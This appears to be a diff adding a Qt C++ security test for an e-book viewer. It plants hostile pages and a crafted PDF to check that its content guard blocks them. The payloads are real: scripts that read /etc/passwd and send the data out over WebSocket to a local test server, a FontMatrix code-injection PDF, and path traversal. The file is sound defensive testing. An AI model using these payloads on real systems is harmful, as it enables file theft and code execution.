@@ -1,0 +1,465 @@
+// Hostile pages in the real window: book pages, a record page and a PDF that try to read the
+// user's files, reach a server the test runs on 127.0.0.1, or go to a place outside the library.
+// Each proves that its script did run and that nothing was read, nothing reached the server and
+// nothing outside was shown; a benign page with a relative image and a script of its own, and an
+// ordinary PDF, still work.
+#include <QApplication>
+#include <QDeadlineTimer>
+#include <QDir>
+#include <QFile>
+#include <QFileInfo>
+#include <QImage>
+#include <QPainter>
+#include <QProcess>
+#include <QSignalSpy>
+#include <QTcpServer>
+#include <QTcpSocket>
+#include <QTemporaryDir>
+#include <QTest>
+#include <memory>
+#include <string>
+#include <vector>
+
+#include "core/base/gbk.h"
+#include "core/doc/tomeva_doc.h"
+#include "gui/app/tomeva_app.h"
+#include "gui/common/local_content_guard.h"
+#include "gui/frame/main_frame.h"
+#include "gui/views/tomeva_view.h"
+#include "gui_test_support.h"
+
+namespace tomeva::gui {
+namespace {
+
+using testing::RunJs;
+using testing::TestApp;
+
+constexpr int kTimeoutMs = 60000;
+// Long enough for a page's timers, sockets and loads to have run their course.
+constexpr int kSettleMs = 1500;
+
+QString U(const char* utf8) { return QString::fromUtf8(utf8); }
+
+bool WriteBytes(const QString& path, const QByteArray& bytes) {
+  QFile file(path);
+  return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
+}
+
+// The Type 1 encryption of the font program (eexec: 55665, glyph programs: 4330).
+QByteArray Encrypt(const QByteArray& plain, quint16 key) {
+  QByteArray out;
+  quint16 r = key;
+  for (char ch : plain) {
+    const auto p = static_cast<quint8>(ch);
+    const quint8 c = p ^ (r >> 8);
+    r = static_cast<quint16>((c + r) * 52845u + 22719u);
+    out.append(static_cast<char>(c));
+  }
+  return out;
+}
+
+// A glyph program: four leading bytes, then the given Type 1 charstring bytes, encrypted.
+QByteArray Glyph(std::initializer_list<int> bytes) {
+  QByteArray plain(4, '\0');
+  for (int b : bytes) plain.append(static_cast<char>(b));
+  return Encrypt(plain, 4330);
+}
+
+// An embedded Type 1 font with one glyph ("A", a square) whose program names no FontMatrix, so
+// that the font dictionary's FontMatrix is the one the renderer uses for the glyph's outline.
+QByteArray Type1FontProgram(int* length1, int* length2) {
+  const QByteArray header =
+      "%!PS-AdobeFont-1.0: Probe 001\n"
+      "12 dict begin\n/FontName /Probe def\n/FontType 1 def\n/PaintType 0 def\n"
+      "/FontBBox {0 0 1000 1000} readonly def\n/Encoding StandardEncoding def\n"
+      "currentdict end\ncurrentfile eexec\n";
+  // 0 500 hsbw endchar; 0 500 hsbw 100 100 rmoveto 300 0 rlineto 0 300 rlineto
+  // -300 0 rlineto closepath endchar
+  const QByteArray notdef = Glyph({139, 248, 136, 13, 14});
+  const QByteArray a = Glyph({139, 248, 136, 13, 239, 239, 21,  247, 192, 139, 5,
+                              139, 247, 192, 5,  251, 192, 139, 5,   9,   14});
+  QByteArray priv =
+      "dup /Private 8 dict dup begin\n"
+      "/RD {string currentfile exch readstring pop} executeonly def\n"
+      "/ND {noaccess def} executeonly def\n/NP {noaccess put} executeonly def\n"
+      "/lenIV 4 def\n/MinFeature {16 16} def\n/password 5839 def\n"
+      "2 index /CharStrings 2 dict dup begin\n";
+  priv += "/.notdef " + QByteArray::number(notdef.size()) + " RD " + notdef + " ND\n";
+  priv += "/A " + QByteArray::number(a.size()) + " RD " + a + " ND\n";
+  priv +=
+      "end\nend\nreadonly put\nnoaccess put\ndup /FontName get exch definefont pop\n"
+      "mark currentfile closefile\n";
+  // Leading bytes whose encryption does not look like hexadecimal text, so that the reader
+  // takes the section as the binary it is.
+  QByteArray eexec;
+  for (char seed = 'a';; ++seed) {
+    eexec = Encrypt(QByteArray(4, seed) + priv, 55665);
+    if (!QByteArray("0123456789abcdefABCDEF \r\n\t").contains(eexec.at(0))) break;
+  }
+  *length1 = static_cast<int>(header.size());
+  *length2 = static_cast<int>(eexec.size());
+  return header + eexec;
+}
+
+// A one-page PDF whose font's FontMatrix holds a string that breaks out of the code a renderer
+// that compiles glyph outlines into functions would build: `payload` runs if it does. The text
+// is drawn in a mode that also adds it to the clip, which asks for the outlines. The document
+// also asks for `payload` as a JavaScript action when it opens, and its page links to that
+// action.
+QByteArray FontMatrixPdf(const QByteArray& payload) {
+  QByteArray escaped;
+  for (char c : QByteArray("0); ") + payload + "; (0") {
+    if (c == '(' || c == ')' || c == '\\') escaped.append('\\');
+    escaped.append(c);
+  }
+  QByteArray escaped_action;
+  for (char c : payload) {
+    if (c == '(' || c == ')' || c == '\\') escaped_action.append('\\');
+    escaped_action.append(c);
+  }
+  int length1 = 0;
+  int length2 = 0;
+  const QByteArray font = Type1FontProgram(&length1, &length2);
+  const QByteArray content = "BT /F1 48 Tf 4 Tr 100 600 Td (AAA) Tj ET\n";
+  const std::vector<QByteArray> objects = {
+      "<< /Type /Catalog /Pages 2 0 R /OpenAction 8 0 R >>",
+      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Resources << /Font << /F1 5 0 R >> "
+      ">> /Contents 4 0 R /Annots [9 0 R] >>",
+      "<< /Length " + QByteArray::number(content.size()) + " >>\nstream\n" + content + "endstream",
+      "<< /Type /Font /Subtype /Type1 /BaseFont /Probe /FirstChar 65 /LastChar 65 /Widths [500] "
+      "/FontDescriptor 6 0 R /FontMatrix [1 2 3 4 5 (" +
+          escaped + ")] >>",
+      "<< /Type /FontDescriptor /FontName /Probe /Flags 32 /FontBBox [0 0 1000 1000] "
+      "/ItalicAngle 0 /Ascent 1000 /Descent 0 /CapHeight 1000 /StemV 80 /FontFile 7 0 R >>",
+      "<< /Length " + QByteArray::number(font.size()) + " /Length1 " + QByteArray::number(length1) +
+          " /Length2 " + QByteArray::number(length2) + " /Length3 0 >>\nstream\n" + font +
+          "\nendstream",
+      "<< /S /JavaScript /JS (" + escaped_action + ") >>",
+      "<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A 8 0 R >>",
+  };
+  QByteArray pdf = "%PDF-1.4\n%\xE2\xE3\xCF\xD3\n";
+  std::vector<int> offsets;
+  for (size_t i = 0; i < objects.size(); ++i) {
+    offsets.push_back(static_cast<int>(pdf.size()));
+    pdf += QByteArray::number(static_cast<int>(i + 1)) + " 0 obj\n" + objects[i] + "\nendobj\n";
+  }
+  const int xref = static_cast<int>(pdf.size());
+  pdf += "xref\n0 " + QByteArray::number(static_cast<int>(objects.size() + 1)) + "\n";
+  pdf += "0000000000 65535 f \n";
+  for (int offset : offsets)
+    pdf += QByteArray::number(offset).rightJustified(10, '0') + " 00000 n \n";
+  pdf += "trailer\n<< /Size " + QByteArray::number(static_cast<int>(objects.size() + 1)) +
+         " /Root 1 0 R >>\nstartxref\n" + QByteArray::number(xref) + "\n%%EOF\n";
+  return pdf;
+}
+
+}  // namespace
+
+class HostileGuiTest : public QObject {
+  Q_OBJECT
+
+ private slots:
+  void initTestCase();
+  void bookPagesReachNothingOutside();
+  void recordMarkupCannotOpenASocket();
+  void webLinksOpenInTheBrowserWindowOnlyWhenClicked();
+  void fontMatrixPdfRunsNothing();
+  void ordinaryPdfStillShows();
+  void guardJudgesRealPaths();
+  void cleanupTestCase();
+
+ private:
+  CMainFrame* frame() { return app_->main_frame(); }
+  CTomevaView* view() { return frame()->html_view(); }
+  QString Server() { return QStringLiteral("127.0.0.1:%1").arg(server_.serverPort()); }
+  // Loads `path` in the view and waits for its load and then for the page's own doings.
+  bool ShowAndSettle(const QString& path);
+  QString PageText() {
+    return RunJs(view(), QStringLiteral("document.documentElement.outerHTML")).toString();
+  }
+
+  QTemporaryDir temp_;
+  QString sample_;
+  QString book_;  // a book folder of the sample, where the hostile pages are put
+  std::unique_ptr<TestApp> app_;
+  QTcpServer server_;
+  QStringList contacts_;  // what reached the server: the first bytes of each connection
+};
+
+bool HostileGuiTest::ShowAndSettle(const QString& path) {
+  QSignalSpy done(view(), &CMoreHtmlView::documentComplete);
+  view()->Navigate(path.toStdString());
+  if (!done.wait(kTimeoutMs)) return false;
+  QTest::qWait(kSettleMs);
+  return true;
+}
+
+void HostileGuiTest::initTestCase() {
+  QVERIFY(temp_.isValid());
+  for (const char* var : {"REGISTRY", "RUNTIME", "DESKTOP", "PROGRAMS", "SYSTEM"}) {
+    QString dir = temp_.filePath(QString::fromLatin1(var).toLower());
+    QDir().mkpath(dir);
+    qputenv(QByteArray("TOMEVA_") + var + "_DIR", dir.toLocal8Bit());
+  }
+  sample_ = temp_.filePath(QStringLiteral("sample"));
+  QProcess maker;
+  maker.start(QStringLiteral(TOMEVA_SAMPLE_MAKER), {sample_});
+  QVERIFY(maker.waitForFinished(600000));
+  QCOMPARE(maker.exitCode(), 0);
+  QVERIFY(testing::RegisterSampleViewer(sample_));
+  QVERIFY(QDir::setCurrent(sample_));
+  book_ = QDir(sample_).filePath(QStringLiteral("1"));
+  QVERIFY(QFileInfo(book_).isDir());
+
+  QVERIFY(server_.listen(QHostAddress::LocalHost));
+  connect(&server_, &QTcpServer::newConnection, this, [this] {
+    while (QTcpSocket* socket = server_.nextPendingConnection()) {
+      contacts_.append(QStringLiteral("(connected)"));
+      const qsizetype at = contacts_.size() - 1;
+      connect(socket, &QTcpSocket::readyRead, this, [this, socket, at] {
+        contacts_[at] = QString::fromLatin1(socket->readAll().left(80));
+      });
+    }
+  });
+
+  app_ = std::make_unique<TestApp>();
+  QVERIFY(app_->InitInstance());
+  if (!view()->has_document()) {
+    QSignalSpy spy(view(), &CMoreHtmlView::documentComplete);
+    QVERIFY(spy.wait(kTimeoutMs));
+  }
+}
+
+// Each page's script leaves what it got in window.__got and sets window.__ran last: a page whose
+// script did not run proves nothing.
+void HostileGuiTest::bookPagesReachNothingOutside() {
+  const QString server = Server();
+  const struct {
+    const char* name;
+    QString script;
+  } cases[] = {
+      {"sync XHR of a file outside",
+       QStringLiteral("try { var x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', "
+                      "false); x.send(); window.__got = x.responseText; } catch (e) {}")},
+      {"fetch, XHR, WebSocket and image to the local server",
+       QStringLiteral(
+           "fetch('http://%1/fetch').catch(function () {});"
+           "var x = new XMLHttpRequest(); x.open('GET', 'http://%1/xhr'); x.send();"
+           "try { new WebSocket('ws://%1/socket'); } catch (e) {}"
+           "var i = new Image(); i.src = 'http://%1/image'; document.body.appendChild(i);")
+           .arg(server)},
+      {"location to a file outside", QStringLiteral("location.href = 'file:///etc/passwd';")},
+      {"location to a data: page and a data: frame",
+       QStringLiteral("window.addEventListener('message', function (e) { window.__got = "
+                      "String(e.data); });"
+                      "var f = document.createElement('iframe');"
+                      "f.src = 'data:text/html,<script>parent.postMessage(\"data frame ran\", "
+                      "\"*\")</' + 'script>';"
+                      "document.body.appendChild(f);"
+                      "setTimeout(function () { location.href = 'data:text/html,<p>data page</p>'; "
+                      "}, 100);")},
+      {"a frame of a file outside",
+       QStringLiteral("var f = document.createElement('iframe'); f.src = 'file:///etc/passwd';"
+                      "f.onload = function () { try { window.__got = "
+                      "f.contentDocument.body.textContent; } catch (e) {} };"
+                      "document.body.appendChild(f);")},
+  };
+  int n = 0;
+  for (const auto& c : cases) {
+    const QString page = QDir(book_).filePath(QStringLiteral("hostile%1.htm").arg(++n));
+    QVERIFY(WriteBytes(page,
+                       "<html><head><meta charset='utf-8'><title>hostile</title></head>"
+                       "<body><p>hostile page</p><script>window.__got = '';" +
+                           c.script.toUtf8() + "window.__ran = true;</script></body></html>"));
+    contacts_.clear();
+    QVERIFY2(ShowAndSettle(page), c.name);
+    QCOMPARE(view()->url(), QUrl::fromLocalFile(page));
+    QVERIFY2(RunJs(view(), QStringLiteral("window.__ran === true")).toBool(), c.name);
+    QCOMPARE(RunJs(view(), QStringLiteral("window.__got")).toString(), QString());
+    QVERIFY2(!PageText().contains(QStringLiteral("root:")), c.name);
+    QVERIFY2(contacts_.isEmpty(), qPrintable(contacts_.join(QLatin1Char('\n'))));
+  }
+  // The program itself cannot be made to show a file outside either (a chapter's page named
+  // with "..").
+  const QString shown = view()->url().toString();
+  view()->Navigate(
+      QDir(book_).filePath(QStringLiteral("../../../../../../etc/passwd")).toStdString());
+  QTest::qWait(kSettleMs);
+  QCOMPARE(view()->url().toString(), shown);
+  QVERIFY(!PageText().contains(QStringLiteral("root:")));
+
+  // A page of the library with a relative image and a script of its own still works.
+  QImage picture(24, 16, QImage::Format_RGB32);
+  picture.fill(Qt::darkGreen);
+  QVERIFY(picture.save(QDir(book_).filePath(QStringLiteral("benign.png"))));
+  const QString benign = QDir(book_).filePath(QStringLiteral("benign.htm"));
+  QVERIFY(WriteBytes(benign,
+                     "<html><body><img id='p' src='benign.png'><p id='t'>x</p><script>"
+                     "document.getElementById('t').textContent = 'script ran';"
+                     "</script></body></html>"));
+  QVERIFY(ShowAndSettle(benign));
+  QCOMPARE(RunJs(view(), QStringLiteral("document.getElementById('t').textContent")).toString(),
+           QStringLiteral("script ran"));
+  QCOMPARE(RunJs(view(), QStringLiteral("document.getElementById('p').naturalWidth")).toInt(), 24);
+}
+
+void HostileGuiTest::recordMarkupCannotOpenASocket() {
+  QVERIFY(ShowAndSettle(QDir(book_).filePath(QStringLiteral("benign.htm"))));
+  contacts_.clear();
+  const int refused = view()->guard()->refused();
+  const QString markup =
+      U("<p>记录正文</p><img src=x onerror=\"window.__ran = true; try { var x = new "
+        "XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', false); x.send(); window.__got = "
+        "x.responseText; } catch (e) {} new WebSocket('ws://%1/record?' + "
+        "encodeURIComponent(window.__got || 'nothing'));\">")
+          .arg(Server());
+  QCOMPARE(view()->ShowHtml(Utf8ToGbk(markup.toStdString())), 1);
+  // Without a filter of the record's mark-up the handler runs; what it tries must not get out.
+  QTRY_VERIFY_WITH_TIMEOUT(RunJs(view(), QStringLiteral("window.__ran === true")).toBool(),
+                           kTimeoutMs);
+  QTest::qWait(kSettleMs);
+  QCOMPARE(RunJs(view(), QStringLiteral("window.__got || ''")).toString(), QString());
+  QVERIFY2(contacts_.isEmpty(), qPrintable(contacts_.join(QLatin1Char('\n'))));
+  // The socket and the file were asked for and refused.
+  QVERIFY(view()->guard()->refused() >= refused + 2);
+}
+
+void HostileGuiTest::webLinksOpenInTheBrowserWindowOnlyWhenClicked() {
+  QList<QUrl> opened;
+  view()->set_web_link_opener([&opened](const QUrl& url) { opened.append(url); });
+  const QString target = QStringLiteral("http://%1/link").arg(Server());
+  const QString page = QDir(book_).filePath(QStringLiteral("links.htm"));
+  QVERIFY(WriteBytes(page, "<html><body style='margin:0'><a id='a' href='" + target.toUtf8() +
+                               "' style='display:block;width:300px;height:100px'>web</a>"
+                               "<a id='f' href='file:///etc/passwd' "
+                               "style='display:block;width:300px;height:100px'>file</a>"
+                               "</body></html>"));
+  QVERIFY(ShowAndSettle(page));
+  contacts_.clear();
+  // A page that clicks a link of its own opens nothing: it could put anything into the address.
+  RunJs(view(), QStringLiteral("document.getElementById('a').click(); 1"));
+  QTest::qWait(kSettleMs);
+  QVERIFY(opened.isEmpty());
+  QCOMPARE(view()->url(), QUrl::fromLocalFile(page));
+  // The user's click opens the address in the browser window, not in the view.
+  QWidget* input = view()->focusProxy();
+  QVERIFY(input != nullptr);
+  QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(50, 50));
+  QTRY_COMPARE_WITH_TIMEOUT(opened.size(), 1, kTimeoutMs);
+  QCOMPARE(opened.first(), QUrl(target));
+  QTest::qWait(kSettleMs);
+  QCOMPARE(view()->url(), QUrl::fromLocalFile(page));
+  QVERIFY2(contacts_.isEmpty(), qPrintable(contacts_.join(QLatin1Char('\n'))));
+  // A clicked link out of the library is refused, and the user is told.
+  app_->recorded.clear();
+  QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(50, 150));
+  QTRY_COMPARE_WITH_TIMEOUT(app_->recorded.size(), 1, kTimeoutMs);
+  QVERIFY2(app_->recorded.first().contains(U("书库以外")) &&
+               app_->recorded.first().contains(QStringLiteral("/etc/passwd")),
+           qPrintable(app_->recorded.first()));
+  QCOMPARE(opened.size(), 1);
+  QTest::qWait(kSettleMs);
+  QCOMPARE(view()->url(), QUrl::fromLocalFile(page));
+  QVERIFY(!PageText().contains(QStringLiteral("root:")));
+  app_->recorded.clear();
+  view()->set_web_link_opener(nullptr);
+}
+
+void HostileGuiTest::fontMatrixPdfRunsNothing() {
+  const QString pdf = QDir(book_).filePath(QStringLiteral("fontmatrix.pdf"));
+  QVERIFY(WriteBytes(pdf, FontMatrixPdf("window.__pwned = 1; document.title = \"pwned\"; "
+                                        "new WebSocket(\"ws://" +
+                                        Server().toLatin1() + "/pdf\")")));
+  contacts_.clear();
+  view()->Navigate(pdf.toStdString());
+  QTRY_VERIFY_WITH_TIMEOUT(view()->IsShowingPdf(pdf.toStdString()), kTimeoutMs);
+  // The page is drawn: its outlines were asked for.
+  QTRY_VERIFY_WITH_TIMEOUT(
+      RunJs(view(), QStringLiteral("!!(window.pdfViewer && pdfViewer.loaded && "
+                                   "pdfViewer.pages[0] && pdfViewer.pages[0].state === 'drawn')"))
+          .toBool(),
+      kTimeoutMs);
+  QTest::qWait(kSettleMs);
+  QCOMPARE(RunJs(view(), QStringLiteral("pdfViewer.pageCount")).toInt(), 1);
+  QCOMPARE(RunJs(view(), QStringLiteral("typeof window.__pwned")).toString(),
+           QStringLiteral("undefined"));
+  QVERIFY(RunJs(view(), QStringLiteral("document.title")).toString() != QStringLiteral("pwned"));
+  QVERIFY2(contacts_.isEmpty(), qPrintable(contacts_.join(QLatin1Char('\n'))));
+}
+
+void HostileGuiTest::ordinaryPdfStillShows() {
+  const QString pdf = QDir(book_).filePath(QStringLiteral("838.pdf"));
+  QVERIFY(QFileInfo::exists(pdf));
+  view()->Navigate(pdf.toStdString());
+  QTRY_VERIFY_WITH_TIMEOUT(view()->IsShowingPdf(pdf.toStdString()), kTimeoutMs);
+  QTRY_VERIFY_WITH_TIMEOUT(
+      RunJs(view(), QStringLiteral("!!(window.pdfViewer && pdfViewer.loaded && "
+                                   "pdfViewer.textDivs(1) && pdfViewer.textDivs(1).length > 0)"))
+          .toBool(),
+      kTimeoutMs);
+  QCOMPARE(RunJs(view(), QStringLiteral("pdfViewer.error")).toString(), QString());
+  QVERIFY(RunJs(view(), QStringLiteral("pdfViewer.pageCount")).toInt() > 1);
+}
+
+// The roots hold what the files really are: a link inside the installation to a folder outside
+// leads out only when it is one of the installation's own top-level entries.
+void HostileGuiTest::guardJudgesRealPaths() {
+  const QString outside = temp_.filePath(QStringLiteral("outside"));
+  const QString shared = temp_.filePath(QStringLiteral("shared"));
+  for (const QString& dir : {outside, shared}) {
+    QVERIFY(QDir().mkpath(dir));
+    QVERIFY(WriteBytes(dir + "/secret.htm", "secret"));
+  }
+  QVERIFY(QFile::link(outside, QDir(book_).filePath(QStringLiteral("escape"))));
+  QVERIFY(QFile::link(shared, QDir(sample_).filePath(QStringLiteral("shared"))));
+  LocalRoots roots;
+  roots.SetInstallation(sample_);
+  const struct {
+    QString path;
+    bool inside;
+  } cases[] = {
+      {QDir(book_).filePath(QStringLiteral("benign.htm")), true},
+      {QDir(book_).filePath(QStringLiteral("not-yet-there.htm")), true},
+      {QDir(book_).filePath(QStringLiteral("escape/secret.htm")), false},
+      {QDir(book_).filePath(QStringLiteral("../../outside/secret.htm")), false},
+      {QDir(sample_).filePath(QStringLiteral("shared/secret.htm")), true},
+      {shared + "/secret.htm", true},  // linked by the installation itself
+      {outside + "/secret.htm", false},
+      {QStringLiteral("/etc/passwd"), false},
+      {QStringLiteral("relative.htm"), false},
+  };
+  for (const auto& c : cases) QVERIFY2(roots.Contains(c.path) == c.inside, qPrintable(c.path));
+  const struct {
+    const char* url;
+    bool allowed;
+  } requests[] = {
+      {"ws://127.0.0.1:1/", false},
+      {"wss://example.org/", false},
+      {"http://127.0.0.1/", false},
+      {"https://example.org/", false},
+      {"ftp://example.org/", false},
+      {"data:text/html,x", false},
+      {"blob:http://example.org/1", false},
+      {"blob:file:///1", true},
+      {"qrc:///qtwebchannel/qwebchannel.js", true},
+      {"about:blank", true},
+      {"file://otherhost/etc/passwd", false},
+      {"file:///usr/share/javascript/pdf/build/pdf.js", false},  // not a root of these
+  };
+  for (const auto& r : requests) {
+    QVERIFY2(
+        LocalContentGuard::IsAllowedRequest(QUrl(QString::fromLatin1(r.url)), roots) == r.allowed,
+        r.url);
+  }
+}
+
+void HostileGuiTest::cleanupTestCase() {
+  if (app_ != nullptr) app_->ExitInstance();
+  app_.reset();
+}
+
+}  // namespace tomeva::gui
+
+QTEST_MAIN(tomeva::gui::HostileGuiTest)
+#include "hostile_gui_test.moc"
